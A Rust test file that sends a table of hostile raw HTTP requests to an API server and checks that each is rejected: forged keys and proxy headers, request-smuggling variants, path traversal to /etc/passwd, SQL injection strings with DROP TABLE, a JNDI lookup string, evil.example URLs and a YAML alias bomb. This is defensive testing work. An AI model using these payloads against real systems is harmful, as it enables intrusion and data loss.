//! A table of hostile requests and what each gets. After all of them the server still answers, has run nothing that was
//! not asked for properly, and has its tables.

use serde_json::{Value, json};

use crate::guarded::{Guarded, raw};

/// One request, byte by byte, and the statuses that are a proper answer; 0 is a connection closed without one.
struct Hostile {
    what: String,
    bytes: Vec<u8>,
    accepted: &'static [u16],
}

fn get(target: &str, headers: &str) -> Vec<u8> {
    format!("GET {target} HTTP/1.1\r\nHost: localhost\r\n{headers}Connection: close\r\n\r\n").into_bytes()
}

fn post(headers: &str, body: &str) -> Vec<u8> {
    let length = body.len();
    format!(
        "POST /v1/experiments HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n{headers}\
         Content-Length: {length}\r\nConnection: close\r\n\r\n{body}"
    )
    .into_bytes()
}

fn row(what: impl Into<String>, bytes: Vec<u8>, accepted: &'static [u16]) -> Hostile {
    let what = what.into();
    Hostile { what, bytes, accepted }
}

/// Keys that are none, or none any more.
fn keys(good: &str, expired: &str, revoked: &str) -> Vec<Hostile> {
    let id = good.split('_').nth(1).unwrap();
    let zeros = "0".repeat(64);
    let wrong = format!("jm_{id}_{zeros}");
    let values = [
        ("an expired key", format!("Bearer {expired}")),
        ("a revoked key", format!("Bearer {revoked}")),
        ("a key's id with another secret", format!("Bearer {wrong}")),
        (
            "an id that is not there",
            format!("Bearer jm_{}_{zeros}", "0".repeat(16)),
        ),
        ("a key in capitals", format!("Bearer {}", good.to_uppercase())),
        ("a key cut short", format!("Bearer {}", &good[..good.len() - 1])),
        ("a key and more", format!("Bearer {good}0")),
        ("two keys in one header", format!("Bearer {good}, Bearer {good}")),
        ("a key without its scheme", good.to_owned()),
        ("a key by another scheme", format!("Basic {good}")),
        ("no key after the scheme", "Bearer".to_owned()),
        ("SQL in place of a key", "Bearer jm_' OR '1'='1_x".to_owned()),
        ("SQL in a key's id", format!("Bearer jm_' OR 1=1 --_{zeros}")),
        (
            "a JSON token with algorithm none",
            "Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJyb290In0.".to_owned(),
        ),
        ("bytes that are no text", "Bearer \u{ff}\u{fe}".to_owned()),
    ];
    let mut rows: Vec<_> = values
        .into_iter()
        .map(|(what, value)| row(what, get("/v1/devices", &format!("Authorization: {value}\r\n")), &[401]))
        .collect();
    let header = format!("Authorization: Bearer {good}\r\n");
    rows.push(row("a key twice", get("/v1/devices", &header.repeat(2)), &[400]));
    rows.push(row(
        "a key in the query",
        get(&format!("/v1/devices?key={good}"), ""),
        &[401],
    ));
    rows.push(row(
        "a key in a cookie",
        get("/v1/devices", &format!("Cookie: key={good}\r\n")),
        &[401],
    ));
    rows
}

/// Headers that only a trusted proxy may send, from somebody who is none.
fn forged(good: &str) -> Vec<Hostile> {
    let mut rows: Vec<_> = [
        "X-Forwarded-For: 127.0.0.1\r\n",
        "Forwarded: for=127.0.0.1;proto=https\r\n",
        "X-Real-IP: 127.0.0.1\r\n",
        "X-Remote-User: root\r\n",
        "x-remote-user: root\r\nX-Forwarded-For: 10.0.0.1\r\n",
        "X-Remote_User: root\r\n",
    ]
    .into_iter()
    .map(|headers| row(format!("forged {}", headers.trim()), get("/v1/audit", headers), &[401]))
    .collect();
    let key = format!("Authorization: Bearer {good}\r\n");
    for headers in [
        "X-Forwarded-Prefix: //evil.example\r\nX-Forwarded-Proto: javascript\r\n",
        "X-HTTP-Method-Override: DELETE\r\n",
        "X-Original-URL: /v1/audit\r\nX-Rewrite-URL: /v1/audit\r\n",
    ] {
        rows.push(row(
            format!("without effect {}", headers.trim()),
            get("/v1/devices", &format!("{key}{headers}")),
            &[200],
        ));
    }
    for headers in [
        "X-Remote-User: a\r\nX-Remote-User: root\r\n",
        "X-Forwarded-Proto: https\r\nX-Forwarded-Proto: http\r\n",
    ] {
        rows.push(row(
            format!("twice {}", headers.trim()),
            get("/v1/devices", &format!("{key}{headers}")),
            &[400],
        ));
    }
    rows
}

/// Requests that two programs may read as different ones.
fn smuggled(good: &str) -> Vec<Hostile> {
    let start = format!("POST /v1/flops HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer {good}\r\n");
    let with = |rest: &str| format!("{start}{rest}").into_bytes();
    let second = "GET /v1/audit HTTP/1.1\r\nHost: localhost\r\n\r\n";
    vec![
        row(
            "two lengths",
            with("Content-Length: 2\r\nContent-Length: 60\r\n\r\n{}"),
            &[400],
        ),
        row("a list of lengths", with("Content-Length: 2, 60\r\n\r\n{}"), &[400]),
        row("a negative length", with("Content-Length: -1\r\n\r\n"), &[400]),
        row("a length with a sign", with("Content-Length: +2\r\n\r\n{}"), &[400]),
        row(
            "a length beyond 64 bits",
            with("Content-Length: 99999999999999999999\r\n\r\n{}"),
            &[400],
        ),
        row(
            "an unknown coding",
            with("Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n"),
            &[400],
        ),
        row(
            "chunked, and not last",
            with("Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n"),
            &[400],
        ),
        row(
            "a chunk's size that is none",
            with("Transfer-Encoding: chunked\r\n\r\nzz\r\n\r\n"),
            &[400],
        ),
        row("a space before the colon", with("Content-Length : 2\r\n\r\n{}"), &[400]),
        row(
            "a folded header",
            with("X-A: b\r\n Content-Length: 2\r\n\r\n{}"),
            &[400],
        ),
        row("a bare line feed in a header", with("X-A: b\nX-B\r\n\r\n"), &[400]),
        row("a null byte in a header", with("X-A: b\0c\r\n\r\n"), &[400]),
        row(
            "no host twice over",
            b"GET / HTTP/1.1\r\nHost: a\r\nHost: b\r\nConnection: close\r\n\r\n".to_vec(),
            &[400],
        ),
        row(
            "a second request behind a length and a coding",
            with(&format!(
                "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{second}"
            )),
            &[400, 415],
        ),
        row(
            "a request for another protocol",
            b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03".to_vec(),
            &[0, 400],
        ),
        row(
            "HTTP/2 without asking",
            b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec(),
            &[0, 400],
        ),
        row(
            "a tunnel",
            b"CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n".to_vec(),
            &[400, 401],
        ),
        row("another's address", get("http://evil.example/v1/audit", ""), &[401]),
    ]
}

/// Paths and names that lead elsewhere.
fn traversal(good: &str) -> Vec<Hostile> {
    let key = format!("Authorization: Bearer {good}\r\n");
    let mut rows = Vec::new();
    for target in [
        "/v1/../healthz/../v1/audit",
        "/v1/experiments/..%2f..%2fetc%2fpasswd",
        "/v1/experiments/%2e%2e/%2e%2e/etc/passwd",
        "/v1/experiments/%00",
        "/v1/experiments/' OR '1'='1".replace(' ', "%20").leak(),
        "//etc/passwd",
        "/healthz/..;/v1/audit",
    ] {
        rows.push(row(format!("path {target}"), get(target, &key), &[400, 404]));
        rows.push(row(format!("path {target} without a key"), get(target, ""), &[401]));
    }
    for name in [
        "../../etc/passwd",
        "/etc/passwd",
        "..%2f..%2fetc%2fpasswd",
        "a/../../b",
        "./../x.gguf",
        "..\\..\\etc\\passwd",
        "models\u{0}.gguf",
        "out",
        "out/secret.gguf",
        "linked.gguf",
        "file:///etc/passwd",
        "https://evil.example/model.gguf",
        "evil/model",
        "'; DROP TABLE experiments; --",
    ] {
        let body = json!({"model_name": name, "prompts": ["a"]}).to_string();
        rows.push(row(format!("model {name:?}"), post(&key, &body), &[422]));
        let question = json!({"model": name}).to_string();
        let asked = String::from_utf8(post(&key, &question))
            .unwrap()
            .replacen("/v1/experiments", "/v1/flops", 1);
        rows.push(row(format!("FLOPs of {name:?}"), asked.into_bytes(), &[422]));
    }
    rows
}

fn oversize(good: &str) -> Vec<Hostile> {
    let key = format!("Authorization: Bearer {good}\r\n");
    let long = "x".repeat(9_000);
    let large = format!("{{\"model_name\": \"{}\"}}", "y".repeat(70_000));
    let deep = "[".repeat(60_000);
    vec![
        row("a long target", get(&format!("/v1/devices?{long}"), &key), &[414]),
        row(
            "a target that never ends",
            get(&"/x".repeat(100_000), &key),
            &[0, 414, 431],
        ),
        row(
            "large headers",
            get("/v1/devices", &format!("{key}{}", format!("X-A: {long}\r\n").repeat(4))),
            &[431],
        ),
        row(
            "headers without end",
            get("/v1/devices", &format!("X-A: {long}\r\n").repeat(40)),
            &[0, 431],
        ),
        row(
            "many headers",
            get("/v1/devices", &format!("{key}{}", "X-A: b\r\n".repeat(1000))),
            &[0, 431],
        ),
        row("a large body", post(&key, &large), &[413]),
        row("a large body without a key", post("", &large), &[0, 401]),
        row("a body nested without end", post(&key, &deep), &[400]),
    ]
}

/// SQL, and what else means something to somebody, in every string that is stored and read back.
fn strings(good: &str) -> Vec<Hostile> {
    let key = format!("Authorization: Bearer {good}\r\n");
    let sql = "x'); DELETE FROM experiments; DROP TABLE audit_log; --";
    let stored = json!({"model_name": "synthetic:", "config_name": sql, "prompts": [sql, "\u{0} {{7*7}} ${jndi:ldap://x}"],
        "labels": {(sql): sql}, "max_output_tokens": 1, "num_cycles": 1});
    let mut rows = vec![row(
        "SQL in every string that is stored",
        post(&key, &stored.to_string()),
        &[201],
    )];
    let encoded = "x%27%29%3BDROP%20TABLE%20experiments%3B--";
    for parameter in ["cursor", "state", "limit", "label", "order"] {
        let target = format!("/v1/experiments?{parameter}={encoded}");
        rows.push(row(format!("SQL in {parameter}"), get(&target, &key), &[400]));
    }
    for field in [
        "device",
        "distribution",
        "fp_precision",
        "quantization",
        "gpus",
        "decoder",
        "num_cycles",
        "unknown",
    ] {
        let body = json!({"model_name": "synthetic:", (field): sql}).to_string();
        rows.push(row(format!("SQL in {field}"), post(&key, &body), &[422]));
    }
    rows.push(row(
        "a key twice in a body",
        post(&key, "{\"model_name\": \"a\", \"model_name\": \"synthetic:\"}"),
        &[400],
    ));
    rows.push(row("aliases that multiply", {
        let bomb = "a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\n\
            d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]\nf: [*e,*e,*e,*e,*e,*e,*e,*e,*e]\n";
        let text = String::from_utf8(post(&key, bomb)).unwrap();
        text.replacen("application/json", "application/yaml", 1).into_bytes()
    }, &[400, 422]));
    rows
}

fn status_of(answer: &str) -> u16 {
    let number = answer.strip_prefix("HTTP/1.1 ").and_then(|rest| rest.get(..3));
    number.and_then(|number| number.parse().ok()).unwrap_or(0)
}

#[tokio::test]
async fn each_hostile_request_gets_what_it_deserves() {
    let options = [
        "--trusted-proxy",
        "192.0.2.0/24",
        "--identity-header",
        "X-Remote-User",
        "--max-body-bytes",
        "65536",
        "--rate-limit-per-minute",
        "0",
        "--body-timeout-sec",
        "1",
        "--header-timeout-sec",
        "1",
        "--allow-hub",
        "--hub-allow",
        "good/*",
    ];
    let guarded = Guarded::start(&options);
    let outside = tempfile::tempdir().unwrap();
    std::fs::write(outside.path().join("secret.gguf"), "secret").unwrap();
    let models = guarded.server.folder.join("models");
    std::os::unix::fs::symlink(outside.path(), models.join("out")).unwrap();
    std::os::unix::fs::symlink(outside.path().join("secret.gguf"), models.join("linked.gguf")).unwrap();
    let (good, revoked) = (guarded.key("ada", "submitter"), guarded.key("bob", "admin"));
    assert!(guarded.key_command(&["revoke", revoked.split('_').nth(1).unwrap()]).0);
    let (made, expired, _) = guarded.key_command(&["create", "--name", "eve", "--role", "admin", "--expires", "1s"]);
    assert!(made);
    while guarded.get("/v1/devices", &expired).await.0 == reqwest::StatusCode::OK {
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
    let table = [
        keys(&good, &expired, &revoked),
        forged(&good),
        smuggled(&good),
        traversal(&good),
        oversize(&good),
        strings(&good),
    ];
    let table: Vec<_> = table.into_iter().flatten().collect();
    assert!(table.len() >= 60, "{}", table.len());
    let mut wrong = Vec::new();
    for Hostile { what, bytes, accepted } in &table {
        let answer = raw(&guarded.server, bytes).await;
        let status = status_of(&answer);
        println!("{status:3}  {what}");
        // Only one answer: what was hidden behind a request was not taken for another one.
        let answers = answer.matches("HTTP/1.1 ").count();
        let tells = answer.contains("root:x:") || answer.contains(&good) || answer.contains("panicked");
        if !accepted.contains(&status) || answers > 1 || tells {
            wrong.push(format!("{what}: {accepted:?} expected, not\n{answer}"));
        }
    }
    assert!(
        wrong.is_empty(),
        "{} of {} requests:\n{}",
        wrong.len(),
        table.len(),
        wrong.join("\n\n")
    );
    let (_, page) = guarded.get("/v1/experiments", &good).await;
    let items: &Vec<Value> = page["items"].as_array().unwrap();
    assert_eq!(items.len(), 1, "the one that is a proper experiment: {page:#}");
    assert!(
        items[0]["config_name"].as_str().unwrap().contains("DROP TABLE"),
        "as it was sent"
    );
    let root = guarded.key("root", "admin");
    let (_, log) = guarded.get("/v1/audit", &root).await;
    let submitted = log["items"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|entry| entry["action"] == "submit");
    assert_eq!(submitted.count(), 1);
}
